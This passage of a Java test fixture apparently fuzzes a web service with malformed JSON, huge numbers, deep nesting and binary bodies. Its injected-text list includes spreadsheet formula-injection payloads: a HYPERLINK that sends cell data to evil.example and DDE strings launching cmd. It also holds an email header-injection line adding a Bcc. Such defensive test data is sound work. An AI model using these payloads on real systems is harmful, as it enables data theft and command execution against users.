     * money format; 1e1000000000 in a JSON member made a 1 GB error message) or lies past PostgreSQL's
     * numeric scale (1e-100000 was a 500).
     */
    static final List<String> EXPONENTS = List.of("1e100000000", "1e999999999", "-1e999999999", "1e-100000", "1E+2147483647",
            "1e-2147483647");

    /** Text a page or an import may carry: formula starts, control characters, noncharacters, a forged header line. */
    static final List<String> INJECTED_TEXTS = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "Seller\u0001\u000b\u001f", "Seller\ufffe\uffff\ufdd0",
            "Model\r\nBcc: victim@evil.example", "\u007f\u0085\u009f", "\udbff\udfff\ud800");

    /** Hostile bodies, by kind; {@code malformed} ones are not JSON at all. */
    enum HostileBody {
        TRUNCATED(true) {
            @Override
            byte[] body(String valid, Random r) {
                return valid.substring(0, 1 + r.nextInt(valid.length() - 1)).getBytes(StandardCharsets.UTF_8);
            }
        },
        DEEP_NESTING(false) {
            @Override
            byte[] body(String valid, Random r) {
                int depth = oneOf(r, 1500, 20_000);
                return ("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)).getBytes(StandardCharsets.UTF_8);
            }
        },
        WRONG_TYPE(false) {
            @Override
            byte[] body(String valid, Random r) {
                return mutateLeaf(valid, r, oneOf(r, JsonNodeFactory.instance.numberNode(1e308), JsonNodeFactory.instance.arrayNode(),
                        JsonNodeFactory.instance.objectNode(), JsonNodeFactory.instance.booleanNode(true), JsonNodeFactory.instance.nullNode(),
                        JsonNodeFactory.instance.numberNode(-1)));
            }
        },
        NUL_IN_TEXT(false) {
            @Override
            byte[] body(String valid, Random r) {
                return mutateLeaf(valid, r, JsonNodeFactory.instance.textNode("fuzz\u0000" + Hostile.CONTROL.value(r)));
            }
        },
        HOSTILE_TEXT(false) {
            @Override
            byte[] body(String valid, Random r) {
                Hostile hostile = Hostile.pick(r);
                return mutateLeaf(valid, r, JsonNodeFactory.instance.textNode(hostile.value(r)));
            }
        },
        HUGE_EXPONENT(false) {
            @Override
            byte[] body(String valid, Random r) {
                return mutateLeaf(valid, r, JsonNodeFactory.instance.numberNode(new java.math.BigDecimal(oneOf(r, EXPONENTS.toArray(String[]::new)))));
            }
        },
        HUGE_ARRAY(false) {
            @Override
            byte[] body(String valid, Random r) {
                ArrayNode array = JsonNodeFactory.instance.arrayNode();
                for (int i = 0; i < 100_000; i++) {
                    array.add(i % 2 == 0 ? JsonNodeFactory.instance.numberNode(i) : JsonNodeFactory.instance.textNode("m2"));
                }
                return mutateLeaf(valid, r, array);
            }
        },
        NOT_AN_OBJECT(false) {
            @Override
            byte[] body(String valid, Random r) {
                return oneOf(r, "null", "[]", "\"text\"", "1e999", "true", "{}", "[[]]").getBytes(StandardCharsets.UTF_8);
            }
        },
        EMPTY(false) {
            @Override
            byte[] body(String valid, Random r) {
                return new byte[0];
            }
        },
        BINARY(false) {
            @Override
            byte[] body(String valid, Random r) {
                byte[] bytes = new byte[1 + r.nextInt(4096)];
                r.nextBytes(bytes);
                bytes[0] = (byte) 0xFF; // never valid UTF-8 or JSON
                return bytes;
            }
        },
        HUGE_TEXT(false) {
            @Override
            byte[] body(String valid, Random r) {
                return ("<p>" + "ssd ".repeat(250_000) + "</p>").getBytes(StandardCharsets.UTF_8);
            }
        };

        final boolean malformed;

        HostileBody(boolean malformed) {
            this.malformed = malformed;
        }

        abstract byte[] body(String valid, Random r);

        static HostileBody pickJson(Random r) {
            return values()[r.nextInt(values().length)];
        }

        static HostileBody pickText(Random r) {
            return oneOf(r, NUL_IN_TEXT, EMPTY, BINARY, HUGE_TEXT, TRUNCATED);
        }

        /** The valid JSON with one member (or element) replaced; not JSON at all when the valid body is not. */
        static byte[] mutateLeaf(String valid, Random r, JsonNode replacement) {
            ObjectMapper json = new ObjectMapper();
            try {
                JsonNode root = json.readTree(valid);
                List<ContainerNode<?>> parents = new ArrayList<>();
                List<Object> keys = new ArrayList<>();
                collect(root, parents, keys);
                if (parents.isEmpty()) {
                    return json.writeValueAsBytes(replacement);
                }
                int at = r.nextInt(parents.size());
                if (parents.get(at) instanceof ObjectNode object) {
                    object.set((String) keys.get(at), replacement);
                } else {
                    ((ArrayNode) parents.get(at)).set((Integer) keys.get(at), replacement);
                }
                return json.writeValueAsBytes(root);
            } catch (java.io.IOException notJson) {
                return (valid + replacement.asText()).getBytes(StandardCharsets.UTF_8);
            }
        }

        private static void collect(JsonNode node, List<ContainerNode<?>> parents, List<Object> keys) {
            if (node instanceof ObjectNode object) {
                for (Iterator<String> names = object.fieldNames(); names.hasNext(); ) {
                    String name = names.next();
                    parents.add(object);
                    keys.add(name);
                    collect(object.get(name), parents, keys);
                }
            } else if (node instanceof ArrayNode array) {
                for (int i = 0; i < array.size(); i++) {
                    parents.add(array);
                    keys.add(i);
                    collect(array.get(i), parents, keys);
                }
            }
        }
    }

    @SafeVarargs
    static <T> T oneOf(Random r, T... choices) {
        return choices[r.nextInt(choices.length)];
    }
}
